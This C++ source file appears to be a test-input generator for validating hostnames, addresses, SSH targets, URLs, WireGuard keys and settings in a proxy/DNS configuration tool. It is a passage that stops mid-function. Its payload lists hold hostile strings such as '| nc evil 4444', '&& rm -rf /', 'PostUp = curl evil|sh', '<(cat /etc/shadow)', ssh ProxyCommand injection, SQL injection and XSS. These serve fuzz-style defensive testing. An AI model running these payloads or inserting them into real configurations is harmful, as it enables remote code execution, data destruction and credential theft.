#include "HostileInputs.h"

#include <QByteArray>
#include <QSet>
#include <QUrl>

#include <random>

namespace kokoa {
namespace {

QString S(const char *latin1)
{
    return QString::fromLatin1(latin1);
}
QString U(const char16_t *utf16)
{
    return QString::fromUtf16(utf16);
}

// Deterministic on every platform: std::uniform_int_distribution is not
// (its algorithm is implementation-defined), so numbers are drawn by hand.
class Rng
{
public:
    explicit Rng(quint32 seed)
        : m_engine(seed)
    {}
    int below(int n) { return n <= 1 ? 0 : int(m_engine() % quint32(n)); }
    int between(int lo, int hi) { return lo + below(hi - lo + 1); }
    bool chance(int percent) { return below(100) < percent; }
    template <typename T> const T &pick(const QList<T> &items)
    {
        return items.at(below(int(items.size())));
    }

private:
    std::mt19937 m_engine;
};

// ASCII characters no field accepts anywhere (health paths allow '&' and
// '=', so those two are kept apart).
const QList<QChar> &asciiHostile()
{
    static const QList<QChar> chars = [] {
        QList<QChar> out;
        for (const char c : QByteArray("'\"`;{}#$\\|<>()* \t\n\r!,^[]@\x0b\x0c\x1b\x7f"))
            out.append(QLatin1Char(c));
        return out;
    }();
    return chars;
}

// Invisible, direction-changing, space-like and line-breaking characters.
const QList<QChar> &unicodeInvisible()
{
    static const QList<QChar> chars{
        QChar(0x200B), // zero width space
        QChar(0x200C), // zero width non-joiner
        QChar(0x200D), // zero width joiner
        QChar(0xFEFF), // byte order mark / zero width no-break space
        QChar(0x00AD), // soft hyphen
        QChar(0x202E), // right-to-left override
        QChar(0x202D), // left-to-right override
        QChar(0x2066), // left-to-right isolate
        QChar(0x061C), // Arabic letter mark
        QChar(0x00A0), // no-break space
        QChar(0x3000), // ideographic space
        QChar(0x2028), // line separator
        QChar(0x2029), // paragraph separator
        QChar(0x0085), // next line
        QChar(0x2060), // word joiner
    };
    return chars;
}

// Latin letter -> Cyrillic look-alike.
QChar cyrillicFor(QChar latin)
{
    switch (latin.unicode()) {
    case u'a':
        return QChar(0x0430);
    case u'e':
        return QChar(0x0435);
    case u'o':
        return QChar(0x043E);
    case u'p':
        return QChar(0x0440);
    case u'c':
        return QChar(0x0441);
    case u'x':
        return QChar(0x0445);
    case u'y':
        return QChar(0x0443);
    case u'i':
        return QChar(0x0456);
    case u's':
        return QChar(0x0455);
    default:
        return {};
    }
}

const QStringList &injections()
{
    static const QStringList payloads{
        S(";\nserver { listen 80; }"),
        S("\r\nHost: evil"),
        S("\r\n\r\nGET / HTTP/1.1"),
        S("; return 302 https://evil.example/;"),
        S("$host"),
        S("${host}"),
        S("$(id)"),
        S("`id`"),
        S("| nc evil 4444"),
        S("&& rm -rf /"),
        S("; rm -rf ~"),
        S("' OR '1'='1"),
        S("\"; DROP TABLE routes; --"),
        S("<script>alert(1)</script>"),
        S("{ }"),
        S("# comment"),
        S("\\n"),
        S(" include /etc/passwd;"),
        S("\nPostUp = curl evil|sh"),
        S("\n[Peer]\nAllowedIPs = 0.0.0.0/0"),
        S(">/etc/nginx/nginx.conf"),
        S("<(cat /etc/shadow)"),
        S("*"),
    };
    return payloads;
}

QString insertAt(const QString &base, int position, const QString &what)
{
    QString out = base;
    out.insert(position, what);
    return out;
}

// A hostile ASCII character, and sometimes a NUL right after it: a C string
// then still ends in something invalid.
QString asciiHostileChunk(Rng &rng)
{
    QString chunk(rng.pick(asciiHostile()));
    if (rng.chance(15))
        chunk += QChar(0);
    return chunk;
}

QString randomAlnum(Rng &rng, int length)
{
    static const QString alphabet = S("abcdefghijklmnopqrstuvwxyz0123456789");
    QString out;
    for (int i = 0; i < length; ++i)
        out += alphabet.at(rng.below(int(alphabet.size())));
    // Labels start and end with a letter so the result is a plain label.
    out[0] = QLatin1Char('a' + char(rng.below(26)));
    out[length - 1] = QLatin1Char('a' + char(rng.below(26)));
    return out;
}

QString fullwidth(QChar c)
{
    if (c.unicode() >= 0x21 && c.unicode() <= 0x7e)
        return QString(QChar(char16_t(c.unicode() - 0x21 + 0xFF01)));
    return QString(c);
}

const QStringList &hostnameBases()
{
    static const QStringList bases{
        S("example.com"),        S("www.example.com"),        S("api.example.org"),
        S("shop.example.co.jp"), S("blog.my-site.net"),       S("a1.b2.example.io"),
        S("mail.example.com"),   S("cloud.home.example.dev"), S("service-01.example.net"),
        S("web.example.jp"),
    };
    return bases;
}

enum class NameUse
{
    Hostname,    // route hostnames, zones: two labels or more
    TsigKey,     // '_', single and numeric labels are fine; ASCII only
    ConnectHost, // ssh host: an IPv4 address is fine
    UrlHost,     // host in a URL: also no '/', which would start the path
};

// Mutations that make a host name, zone name or key name invalid.
QString hostileName(Rng &rng, const QString &base, NameUse use)
{
    const bool forTsig = use == NameUse::TsigKey;
    const int kind = rng.below(forTsig ? 14 : 19);
    switch (kind) {
    case 0: // a character no label may hold
    case 1:
        return insertAt(base, rng.below(int(base.size()) + 1), asciiHostileChunk(rng));
    case 2: { // characters valid in other places of a URL
        static const QStringList chars{S("/"), S(":"), S("%"), S("&"),    S("="),
                                       S("?"), S("+"), S("~"), S("/../"), S("\\..\\")};
        QString chunk = rng.pick(chars);
        if (use == NameUse::UrlHost && chunk == QLatin1String("/"))
            chunk = S("%");
        return insertAt(base, rng.below(int(base.size()) + 1), chunk);
    }
    case 3: // invisible or direction-changing characters
        return insertAt(base, rng.below(int(base.size()) + 1),
                        QString(rng.pick(unicodeInvisible())));
    case 4: { // injection payload after (or before) a valid name
        const QString payload = rng.pick(injections());
        return rng.chance(75) ? base + payload : payload + base;
    }
    case 5: { // label longer than 63 characters
        const QString label = randomAlnum(rng, rng.between(64, 100));
        return rng.chance(50) || !base.contains(QLatin1Char('.'))
                   ? QString(label + QLatin1Char('.') + base)
                   : QString(base.section(QLatin1Char('.'), 0, -2) + QLatin1Char('.') + label +
                             QLatin1Char('.') + base.section(QLatin1Char('.'), -1));
    }
    case 6: { // name longer than 253 characters, every label fine
        QString name = base;
        const int target = rng.between(254, 400);
        while (name.size() < target)
            name = randomAlnum(rng, rng.between(10, 63)) + QLatin1Char('.') + name;
        return name;
    }
    case 7: { // empty label
        const QStringList forms{
            S(".") + base, base + S(".."),
            base.contains(QLatin1Char('.'))
                ? QString(base).replace(base.indexOf(QLatin1Char('.')), 1, S(".."))
                : base + S("..x"),
            S("..") + base};
        return rng.pick(forms);
    }
    case 8: { // label starting or ending with '-'
        QStringList labels = base.split(QLatin1Char('.'));
        const int i = rng.below(int(labels.size()));
        labels[i] = rng.chance(50) ? S("-") + labels[i] : labels[i] + S("-");
        return labels.join(QLatin1Char('.'));
    }
    case 9: // percent-encoding of a letter
    {
        QString out = base;
        const int i = rng.below(int(out.size()));
        if (out.at(i) == QLatin1Char('.'))
            return out.replace(i, 1, S("%2e"));
        return out.replace(i, 1, QLatin1Char('%') + QString::number(out.at(i).unicode(), 16));
    }
    case 10: { // '--' in the third and fourth position without xn--
        const QStringList forms{S("ab--cd."), S("xy--z."), S("12--ab."), S("zz--")};
        return rng.pick(forms) + base;
    }
    case 11: { // broken punycode
        const QStringList forms{S("xn--."),     S("xn--a."),           S("xn---."),
                                S("xn--abc-."), S("xn--zz-zzzzzzzz."), S("xn--99999999."),
                                S("xn--x-"),    S("xn--ls8h-xx.")};
        const QString form = rng.pick(forms);
        return form.endsWith(QLatin1Char('.')) ? QString(form + base)
                                               : QString(form + S(".") + base);
    }
    case 12: // a wildcard where none is allowed, or in the wrong place
    {
        const QStringList forms{S("a.*.") + base, S("*") + base,    S("**.") + base,
                                base + S(".*"),   S("*.*.") + base, S("w*w.") + base};
        return rng.pick(forms);
    }
    case 13: { // non-ASCII character in a TSIG key name (or a hostile one)
        if (forTsig) {
            const QStringList forms{U(u"ключ."), U(u"鍵."), U(u"k\u00e9y."), U(u"k\uff45y.")};
            return rng.pick(forms) + base;
        }
        // Fullwidth forms, mapped to ASCII by IDNA.
        QString out = base;
        const int i = rng.below(int(out.size()));
        return out.replace(i, 1, fullwidth(out.at(i)));
    }
    case 14: { // fullwidth or ideographic dot, often with a hostile character
        QString out = base;
        const QList<QChar> dots{QChar(0xFF0E), QChar(0x3002), QChar(0xFF61)};
        const int i = int(out.indexOf(QLatin1Char('.')));
        out.replace(i, 1, QString(rng.pick(dots)));
        if (rng.chance(50))
            out = insertAt(out, rng.below(int(out.size()) + 1), asciiHostileChunk(rng));
        return out;
    }
    case 15: { // a Cyrillic look-alike in a label with other Latin letters
        QString out = base;
        QList<int> candidates;
        const QStringList labels = out.split(QLatin1Char('.'));
        int offset = 0;
        for (const QString &label : labels) {
            int letters = 0;
            for (const QChar c : label)
                letters += c.isLetter() ? 1 : 0;
            for (int i = 0; i < label.size(); ++i) {
                if (letters >= 2 && !cyrillicFor(label.at(i)).isNull())
                    candidates.append(offset + i);
            }
            offset += int(label.size()) + 1;
        }
        if (candidates.isEmpty())
            return S("p") + QChar(0x0430) + S("ypal.") + base;
        const int i = rng.pick(candidates);
        out[i] = cyrillicFor(out.at(i));
        if (rng.chance(30)) { // typed as punycode
            const QString label = out.section(QLatin1Char('.'), 0, 0);
            const QString ace = QString::fromLatin1(
                QUrl::toAce(label, QUrl::AceProcessingOption::IgnoreIDNWhitelist));
            if (ace.startsWith(QLatin1String("xn--")))
                out = ace + out.mid(label.size());
        }
        return out;
    }
    case 16: { // combining marks: on a plain letter, or starting a label
        const QList<QChar> marks{QChar(0x0301), QChar(0x0336), QChar(0x0338), QChar(0x0308),
                                 QChar(0x20DD)};
        QString out = base;
        if (rng.chance(30))
            return QString(rng.pick(marks)) + out;
        QList<int> letters;
        for (int i = 0; i < out.size(); ++i) {
            if (out.at(i).isLetter())
                letters.append(i + 1);
        }
        return insertAt(out, rng.pick(letters), QString(rng.pick(marks)));
    }
    case 17: { // last label a number, in any notation inet_aton() reads
        QStringList forms{S("1.2.3.4"),    S("127.1"),      S("0x7f.1"),
                          S("0x7f.0.0.1"), S("0x7f000001"), S("2130706433"),
                          S("1.2.3.4.5"),  S("0177.0.0.1"), S("10.0.0.0x1")};
        if (use == NameUse::ConnectHost || use == NameUse::UrlHost)
            forms.removeAll(S("1.2.3.4")); // a valid address to connect to
        if (rng.chance(40))
            return rng.pick(forms);
        return base + QLatin1Char('.') + QString::number(rng.between(0, 99999));
    }
    default: // '_' (fine in TSIG key names only)
        return insertAt(base, rng.below(int(base.size()) + 1), S("_"));
    }
}

QString asciiFullwidthDigits(const QString &digits)
{
    QString out;
    for (const QChar c : digits)
        out += c.isDigit() ? QString(QChar(char16_t(0xFF10 + c.digitValue()))) : QString(c);
    return out;
}

// Mutations that break any plain number field; `valid` is a valid value,
// `max` the largest valid number.
QString hostileNumber(Rng &rng, const QString &valid, qint64 max)
{
    switch (rng.below(10)) {
    case 0:
        return S("0") + valid; // leading zero
    case 1:
        return (rng.chance(50) ? S("+") : S("-")) + valid; // sign
    case 2:
        return QString::number(max + 1 + rng.below(100000));
    case 3:
        return S("99999999999999999999999999") + QString::number(rng.below(10));
    case 4:
        return asciiFullwidthDigits(valid);
    case 5: { // Arabic-Indic digits
        QString out;
        for (const QChar c : valid)
            out += c.isDigit() ? QString(QChar(char16_t(0x0660 + c.digitValue()))) : QString(c);
        return out;
    }
    case 6: {
        const QStringList forms{S("0x1f"),  S("1e3"), S("12.0"), S("1,000"), S("0b101"),
                                S("1_000"), S("nan"), S("inf"),  S("-0"),    S("0.5")};
        return rng.pick(forms);
    }
    case 7:
        return valid + rng.pick(injections());
    case 8:
        return insertAt(valid, rng.below(int(valid.size()) + 1),
                        QString(rng.pick(unicodeInvisible())));
    default:
        return insertAt(valid, rng.below(int(valid.size()) + 1), asciiHostileChunk(rng));
    }
}

QString randomOctets(Rng &rng, int count)
{
    QStringList parts;
    for (int i = 0; i < count; ++i)
        parts.append(QString::number(rng.between(0, 255)));
    return parts.join(QLatin1Char('.'));
}

// Sets `nonPublic` when the address is well formed but only refused for
// being non-public.
QString hostileAddress(Rng &rng, bool *nonPublic)
{
    *nonPublic = false;
    const QStringList publicOnes{S("8.8.8.8"),     S("1.1.1.1"),         S("95.216.1.2"),
                                 S("2a01:4f8::1"), S("2606:4700::1111"), S("2001:4860::8888")};
    switch (rng.below(12)) {
    case 0:
    case 1: { // non-public IPv4
        *nonPublic = true;
        const int r = rng.below(12);
        const QString tail2 = QString::number(rng.between(0, 255)) + QLatin1Char('.') +
                              QString::number(rng.between(1, 254));
        switch (r) {
        case 0:
            return S("10.") + randomOctets(rng, 2) + QLatin1Char('.') +
                   QString::number(rng.between(1, 254));
        case 1:
            return S("192.168.") + tail2;
        case 2:
            return S("172.") + QString::number(rng.between(16, 31)) + QLatin1Char('.') + tail2;
        case 3:
            return S("100.") + QString::number(rng.between(64, 127)) + QLatin1Char('.') + tail2;
        case 4:
            return S("127.") + randomOctets(rng, 2) + QLatin1Char('.') +
                   QString::number(rng.between(1, 254));
        case 5:
            return S("169.254.") + tail2;
        case 6:
            return S("192.0.2.") + QString::number(rng.between(1, 254));
        case 7:
            return S("198.51.100.") + QString::number(rng.between(1, 254));
        case 8:
            return S("203.0.113.") + QString::number(rng.between(1, 254));
        case 9:
            return S("198.") + QString::number(rng.between(18, 19)) + QLatin1Char('.') + tail2;
        case 10:
            return S("0.") + randomOctets(rng, 2) + QLatin1Char('.') +
                   QString::number(rng.between(1, 254));
        default:
            return S("192.0.0.") + QString::number(rng.between(1, 254));
        }
    }
    case 2: { // non-public IPv6
        *nonPublic = true;
        const QString h = QString::number(rng.between(1, 0xffff), 16);
        const QStringList forms{S("::1"),
                                S("fe80::") + h,
                                S("fd00:") + h + S("::1"),
                                S("fc00::") + h,
                                S("2001:db8:") + h + S("::1"),
                                S("fec0::") + h,
                                S("100::") + h,
                                S("3fff:") + QString::number(rng.between(0, 0xfff), 16) + S("::1")};
        return rng.pick(forms);
    }
    case 3: { // refused in every scope: unspecified, multicast, reserved, mapped
        const QStringList forms{
            S("0.0.0.0"),
            S("::"),
            S("255.255.255.255"),
            QString::number(rng.between(224, 239)) + QLatin1Char('.') + randomOctets(rng, 3),
            QString::number(rng.between(240, 255)) + QLatin1Char('.') + randomOctets(rng, 3),
            S("ff02::") + QString::number(rng.between(1, 0xffff), 16),
            S("::ffff:") + randomOctets(rng, 4),
            S("::ffff:127.0.0.1"),
            S("::ffff:8.8.8.8"),
            S("::ffff:7f00:1"),
            S("::127.0.0.1")};
        return rng.pick(forms);
    }
    case 4: { // malformed or non-canonical forms
        const QStringList forms{S("127.1"),
                                S("0x7f.1"),
                                S("0x7f.0.0.1"),
                                S("0177.0.0.1"),
                                S("2130706433"),
                                S("1.2.3.4.5"),
                                S("1.2.3"),
                                S("256.1.1.1"),
                                S("08.8.8.8"),
                                S("8.8.8.08"),
                                S("8.8.8.8."),
                                S(".8.8.8.8"),
                                S("8..8.8"),
                                S("8.8.8.8/32"),
                                S("8.8.8.8:53"),
                                S("[2a01:4f8::1]"),
                                S("2a01:4f8::1%eth0"),
                                S("fe80::1%eth0"),
                                S("2a01::4f8::1"),
                                S("2a01:4f8::g"),
                                S("2a01:4f8:0:0:0:0:0:0:1"),
                                S(":::1"),
                                S("[::1]"),
                                S("::ffff:8.8.8.08"),
                                S("2a01:4f8::8.8.8.8.8"),
                                S("1.1.1.1 "),
                                S(" 1.1.1.1"),
                                S("one.one.one.one"),
                                S("localhost"),
                                S("8.8.8.8/0"),
                                S("-8.8.8.8")};
        return rng.pick(forms);
    }
    case 5: { // fullwidth digits and dots
        QString out = asciiFullwidthDigits(rng.pick(publicOnes));
        if (rng.chance(50))
            out.replace(QLatin1Char('.'), QChar(0xFF0E));
        return out;
    }
    case 6:
        return rng.pick(publicOnes) + rng.pick(injections());
    case 7: {
        const QString base = rng.pick(publicOnes);
        return insertAt(base, rng.below(int(base.size()) + 1),
                        QString(rng.pick(unicodeInvisible())));
    }
    default: {
        const QString base = rng.pick(publicOnes);
        return insertAt(base, rng.below(int(base.size()) + 1), asciiHostileChunk(rng));
    }
    }
}

QString hostileSsh(Rng &rng)
{
    const QStringList users{S("root"), S("deploy"), S("kokoa"), S("admin_1")};
    const QStringList hosts{S("edge1.example.com"), S("95.216.1.2"), S("[2a01:4f8::1]"),
                            S("myserver"), S("origin.lan")};
    const QString user = rng.pick(users);
    const QString host = rng.pick(hosts);
    const QString valid = user + QLatin1Char('@') + host + S(":22");
    switch (rng.below(12)) {
    case 0: { // option injection into ssh's argv
        const QStringList forms{S("-oProxyCommand=sh -c id"),
                                S("root@-oProxyCommand=id"),
                                S("-p 22 root@host"),
                                S("root@host -oProxyCommand=id"),
                                S("-F/tmp/x@host"),
                                S("root@-host"),
                                S("root@host:-22")};
        return rng.pick(forms);
    }
    case 1: { // bad user names
        const QStringList forms{S("Root@") + host,
                                S("1root@") + host,
                                S("-root@") + host,
                                S("@") + host,
                                S("ro ot@") + host,
                                S("root:pw@") + host,
                                QString(33, QLatin1Char('u')) + S("@") + host,
                                U(u"r\u00f6ot@") + host,
                                S("root@@") + host};
        return rng.pick(forms);
    }
    case 2: { // bad ports
        const QStringList forms{S(":0"), S(":65536"), S(":022"), S(":+22"),  S(":-1"),
                                S(":"),  S(":22:22"), S(":ssh"), S(":0x16"), S(": 22")};
        return user + QLatin1Char('@') + host + rng.pick(forms);
    }
    case 3: { // IPv6 mistakes
        const QStringList forms{
            S("root@::1"),           S("root@2a01:4f8::1:22"),    S("root@[::1"),
            S("root@[::1]22"),       S("root@[fe80::1%eth0]:22"), S("root@[1.2.3.4]:22"),
            S("root@[myserver]:22"), S("root@[[::1]]"),           S("root@[::]:22"),
            S("root@[ff02::1]")};
        return rng.pick(forms);
    }
    case 4: { // numeric hosts getaddrinfo() would read as addresses
        const QStringList forms{
            S("127.1"),     S("0x7f.1"),     S("0x7f000001"), S("1.2.3.4.5"),       S("0177.0.0.1"),
            S("256.0.0.1"), S("2130706433"), S("224.0.0.1"),  S("255.255.255.255"), S("0.0.0.0")};
        return user + QLatin1Char('@') + rng.pick(forms) + (rng.chance(50) ? S(":22") : S(""));
    }
    case 5:
        return user + QLatin1Char('@') +
               hostileName(rng, rng.pick(hostnameBases()), NameUse::ConnectHost);
    case 6:
        return valid + rng.pick(injections());
    case 7: // empty host
        return rng.chance(50) ? user + S("@") : user + S("@:22");
    default: {
        // Insert anywhere except inside the brackets' ':' rules: any ASCII
        // hostile or invisible character breaks every part.
        const QString chunk =
            rng.chance(70) ? asciiHostileChunk(rng) : QString(rng.pick(unicodeInvisible()));
        return insertAt(valid, rng.below(int(valid.size()) + 1), chunk);
    }
    }
}

QString hostileHealthPath(Rng &rng)
{
    const QStringList bases{
        S("/"),     S("/health"),      S("/api/v1/status"), S("/healthz?full=1"),
        S("/ping"), S("/status/ready")};
    const QString base = rng.pick(bases);
    switch (rng.below(10)) {
    case 0: { // traversal and other hosts
        const QStringList forms{
            S("/../etc/passwd"),   S("/health/../admin"), S("/./health"),     S("/a/.."),
            S("//evil.example/x"), S("/health//x"),       S("/%2e%2e/admin"), S("/%2E%2E%2Fetc"),
            S("/..%2fadmin"),      S("/%2fevil"),         S("/health/%2e"),   S("/%5c..%5cwin"),
            S("/%c0%ae%c0%ae/"),   S("/%252e%252e/"),     S("/.."),           S("health"),
            S("../health"),        S("http://evil/"),     S("\\health")};
        return rng.pick(forms);
    }
    case 1: { // escaped controls, header injection, invisible characters
        const QStringList forms{S("/%00"),       S("/health%0d%0aHost:%20evil"),
                                S("/%0a"),       S("/a%09b"),
                                S("/%7f"),       S("/%e2%80%ae"),
                                S("/%e2%80%8b"), S("/%ef%bb%bf"),
                                S("/%c2%ad"),    S("/%ff"),
                                S("/%e2%80"),    S("/%41"),
                                S("/%7e"),       S("/%"),
                                S("/%4"),        S("/%zz"),
                                S("/%2"),        S("/%%41")};
        return base + rng.pick(forms).mid(1);
    }
    case 2: // too long
        return S("/") + QString(rng.between(256, 600), QLatin1Char('a'));
    case 3:
        return base + rng.pick(injections());
    case 4: // no leading slash
        return base.mid(1) + (rng.chance(50) ? S("x") : S("")) + S("?") + base;
    case 5:
        return insertAt(base, rng.below(int(base.size()) + 1),
                        QString(rng.pick(unicodeInvisible())));
    case 6: // raw non-ASCII
        return base + rng.pick(QStringList{U(u"é"), U(u"健康"), U(u"\uff0e\uff0e"), U(u"\u0430")});
    default:
        return insertAt(base, 1 + rng.below(int(base.size())), asciiHostileChunk(rng));
    }
}

QString hostileBodySize(Rng &rng)
{
    const QStringList valid{S("0"), S("512k"), S("10m"), S("1g"), S("64g"), S("1048576")};
    switch (rng.below(6)) {
    case 0: {
        const QStringList forms{S("65g"),
                                S("68719476737"),
                                S("65537m"),
                                S("67108865k"),
                                S("1t"),
                                S("1kb"),
                                S("10 m"),
                                S("1.5m"),
                                S("-1"),
                                S("-1k"),
                                S("+10m"),
                                S("010m"),
                                S("k"),
                                S("m"),
                                S("0x10m"),
                                S("1e9"),
                                S("99999999999999999999g"),
                                S("9223372036854775807"),
                                S("9223372036854775808"),
                                S("18446744073709551617k"),
                                S("10mm"),
                                S("10m;")};
        return rng.pick(forms);
    }
    case 1:
        return QString::number(rng.between(65, 100000)) + S("g");
    case 2:
        return QString::number(rng.between(65537, 9999999)) + S("m");
    default: {
        const QString base = rng.pick(valid);
        return hostileNumber(rng, base, qint64(64) * 1024 * 1024 * 1024);
    }
    }
}

QString randomWireGuardKey(Rng &rng)
{
    QByteArray bytes(32, '\0');
    for (char &b : bytes)
        b = char(rng.below(256));
    return QString::fromLatin1(bytes.toBase64());
}

QString hostileWireGuardKey(Rng &rng)
{
    const QString key = randomWireGuardKey(rng);
    switch (rng.below(10)) {
    case 0:
        return key.left(43); // padding missing
    case 1:
        return key.left(43) + S("=="); // 45 characters
    case 2:
        return key + S("=");
    case 3:
        return key.left(42) + S("=="); // 31 bytes
    case 4: {                          // non-zero padding bits in the last character
        static const QString bad = S("BCDFGHJKLNOPRSTVWXZabdefhijlmnpqrtuvxyz1235679+/");
        return key.left(42) + bad.at(rng.below(int(bad.size()))) + S("=");
    }
    case 5: { // URL-safe alphabet
        QString out = key;
        out[rng.below(42)] = rng.chance(50) ? QLatin1Char('-') : QLatin1Char('_');
        return out;
    }
    case 6:
        return key + (rng.chance(50) ? S("\n") : S(" "));
    case 7:
        return QString::fromLatin1(QByteArray(33, 'k').toBase64());
    case 8: {
        QString out = key;
        out[rng.below(44)] =
            rng.chance(50) ? rng.pick(asciiHostile()) : rng.pick(unicodeInvisible());
        return out;
    }
    default:
        return insertAt(key, rng.below(45), asciiHostileChunk(rng));
    }
}

QString hostileApiBase(Rng &rng, bool *nonPublic)
{
    *nonPublic = false;
    const QStringList bases{S("https://api.cloudflare.com/client/v4"),
                            S("https://api.hetzner.cloud/v1"), S("http://127.0.0.1:8080/v4"),
                            S("https://[2a01:4f8::1]:8443/api"), S("https://dns.example.com")};
    const QString base = rng.pick(bases);
    switch (rng.below(10)) {
    case 0: {
        const QStringList forms{S("https://user:pass@api.cloudflare.com/client/v4"),
                                S("https://api.cloudflare.com@evil.example/client/v4"),
                                S("https://api.cloudflare.com/client/v4?token=x"),
                                S("https://api.cloudflare.com/client/v4#frag"),
                                S("ftp://api.cloudflare.com/"),
                                S("file:///etc/passwd"),
                                S("javascript:alert(1)"),
                                S("https://"),
                                S("https:///client/v4"),
                                S("https:api.cloudflare.com"),
                                S("//api.cloudflare.com/client/v4"),
                                S("api.cloudflare.com/client/v4"),
                                S("https://api.cloudflare.com/../x"),
                                S("https://api.cloudflare.com/./x"),
                                S("https://api.cloudflare.com/%2e%2e/x"),
                                S("https://api.cloudflare.com/client%2fv4"),
                                S("https://evil.example\\@api.cloudflare.com"),
                                S("https://api.cloudflare.com:0"),
                                S("https://api.cloudflare.com:65536"),
                                S("https://api.cloudflare.com:"),
                                S("https://api.cloudflare.com:443:443"),
                                S("https://api.cloudflare.com//x"),
                                S("http://127.1:8080"),
                                S("http://0x7f.1:8080"),
                                S("http://0x7f000001/"),
                                S("http://2130706433/"),
                                S("https://[fe80::1%25eth0]/"),
                                S("https://[::1/"),
                                S("https://::1/"),
                                S("https://[127.0.0.1]/"),
                                S("https://1.2.3.4.5/"),
                                S("https://-api.cloudflare.com/"),
                                S("https://api_x.cloudflare.com/"),
                                S("https://0.0.0.0/"),
                                S("https://224.0.0.1/"),
                                S("https://[::]/"),
                                S("https://api.cloudflare.com/client/v4 "),
                                S("https://api.cloudflare.com/client v4"),
                                S("https://a..cloudflare.com/"),
                                S("https://api.cloudflare.com/client/v4;x")};
        return rng.pick(forms);
    }
    case 1: { // plain http to a non-loopback host
        const QStringList forms{S("http://api.cloudflare.com/client/v4"),
                                S("http://localhost:8080"), S("http://10.0.0.1/api"),
                                S("http://[2a01:4f8::1]/"), S("http://dns.example.com")};
        const QString picked = rng.pick(forms);
        // Only a non-public address literal is allowed on a test network.
        *nonPublic = picked == S("http://10.0.0.1/api");
        return picked;
    }
    case 2: // non-ASCII host or path
        return rng.pick(QStringList{S("https://") + U(u"аpi.cloudflare.com/client/v4"),
                                    S("https://api.cloudflare.com/") + U(u"客户"),
                                    U(u"https://api\uff0ecloudflare.com/")});
    case 3:
        return base + rng.pick(injections());
    case 4:
        return insertAt(base, rng.below(int(base.size()) + 1),
                        QString(rng.pick(unicodeInvisible())));
    case 5: // a bad host name inside a good URL
        return S("https://") + hostileName(rng, rng.pick(hostnameBases()), NameUse::UrlHost) +
               S("/client/v4");
    default: {
        static const QList<QChar> urlHostile = [] {
            QList<QChar> out = asciiHostile();
            out.append(QLatin1Char('%'));
            out.append(QLatin1Char('?'));
            out.append(QLatin1Char('='));
            out.append(QLatin1Char('&'));
            return out;
        }();
        QString chunk(rng.pick(urlHostile));
        if (rng.chance(10))
            chunk += QChar(0);
        return insertAt(base, rng.below(int(base.size()) + 1), chunk);
    }
    }
}

QString hostileName(Rng &rng)
{
    const QStringList bases{S("tokyo-1"),  S("edge1"),      S("home"),
                            S("origin-a"), S("vps-fra-02"), S("a1b2")};
    const QString base = rng.pick(bases);
    switch (rng.below(10)) {
    case 0: {
        const QStringList forms{S("Tokyo-1"), S("EDGE"),    S("-edge"),  S("edge-"),
                                S("-"),       S("edge.1"),  S("edge_1"), S("edge 1"),
                                S("edge/1"),  S("../edge"), S("edge..")};
        return rng.pick(forms);
    }
    case 1:
        return base + QLatin1Char('-') + randomAlnum(rng, rng.between(33, 60) - int(base.size()));
    case 2:
        return randomAlnum(rng, rng.between(33, 300));
    case 3:
        return base + rng.pick(injections());
    case 4:
        return insertAt(base, rng.below(int(base.size()) + 1),
                        QString(rng.pick(unicodeInvisible())));
    case 5: { // look-alikes and fullwidth
        QString out = base;
        for (int i = 0; i < out.size(); ++i) {
            if (!cyrillicFor(out.at(i)).isNull()) {
                out[i] = cyrillicFor(out.at(i));
                return out;
            }
        }
        return fullwidth(out.at(0)) + out.mid(1);
    }
    case 6: {
        QString out = base;
        const int i = rng.below(int(out.size()));
        out.replace(i, 1,
                    out.at(i).toUpper() == out.at(i) ? fullwidth(out.at(i))
                                                     : QString(out.at(i).toUpper()));
        return out;
    }
    case 7: { // a combining mark
        const int i = 1 + rng.below(int(base.size()));
        return insertAt(base, i, QString(QChar(0x0301)));
    }
    default: {
        static const QList<QChar> more = [] {
            QList<QChar> out = asciiHostile();
            for (const char c : QByteArray("._%&=?+~/:"))
                out.append(QLatin1Char(c));
            return out;
        }();
        QString chunk(rng.pick(more));
        if (rng.chance(10))
            chunk += QChar(0);
        return insertAt(base, rng.below(int(base.size()) + 1), chunk);
    }
    }
}

struct SettingValue
{
    QString key;
    QString value;
};

SettingValue hostileSetting(Rng &rng)
{
    struct Numeric
    {
        const char *key;
        qint64 min;
        qint64 max;
        const char *valid;
    };
    static const QList<Numeric> numeric{
        {"dns.ttl", 30, 86400, "60"},
        {"health.interval_ms", 500, 60000, "2000"},
        {"health.timeout_ms", 100, 59000, "1500"},
        {"health.fall", 1, 10, "3"},
        {"health.rise", 1, 10, "2"},
        {"health.hold_down_s", 0, 3600, "30"},
        {"ratelimit.normal.rate", 1, 100000, "20"},
        {"ratelimit.normal.burst", 0, 100000, "40"},
        {"ratelimit.normal.connections", 1, 100000, "64"},
        {"ratelimit.attack.rate", 1, 100000, "2"},
        {"ratelimit.attack.burst", 0, 100000, "10"},
        {"ratelimit.attack.connections", 1, 100000, "8"},
    };
    switch (rng.below(6)) {
    case 0: {
        const QStringList forms{S("TRUE"),
                                S("yes"),
                                S("1.0"),
                                S("on"),
                                S("true "),
                                S(" false"),
                                S("true;"),
                                S("false\n"),
                                U(u"tru\u00e9"),
                                S("t"),
                                QString::fromLatin1("true;\0", 6),
                                S("$auto"),
                                U(u"fals\u0435")};
        // Words where a number belongs (edges.auto_replace, the one boolean
        // setting, is gone: nothing read it).
        return {S("health.fall"), rng.pick(forms)};
    }
    case 1: {
        const QStringList forms{S("10.100.0.1/16"),
                                S("10.100.0.0/30"),
                                S("10.0.0.0/7"),
                                S("10.100.0.0"),
                                S("10.100.0.0/016"),
                                S("10.100.0.0/16/1"),
                                S("8.8.0.0/16"),
                                S("1.0.0.0/8"),
                                S("224.0.0.0/8"),
                                S("0.0.0.0/8"),
                                S("127.0.0.0/8"),
                                S("172.15.0.0/16"),
                                S("172.16.0.0/11"),
                                S("100.0.0.0/8"),
                                S("192.168.0.0/15"),
                                S("10.100.0.0/ 16"),
                                S("10.100.0.0 /16"),
                                S("10.100.0.0/16;"),
                                S("10.100.0.0/16\nAllowedIPs=0.0.0.0/0"),
                                S("10.1.0/16"),
                                S("010.100.0.0/16"),
                                S("0xa.100.0.0/16"),
                                S("fd00::/8"),
                                S("10.100.0.0/-16"),
                                S("10.100.0.0/+16"),
                                S("10.100.0.0/")};
        return {S("tunnel.range"), rng.pick(forms)};
    }
    default: {
        const Numeric &n = rng.pick(numeric);
        QString value;
        if (rng.chance(25)) { // out of range: below the minimum or above the maximum
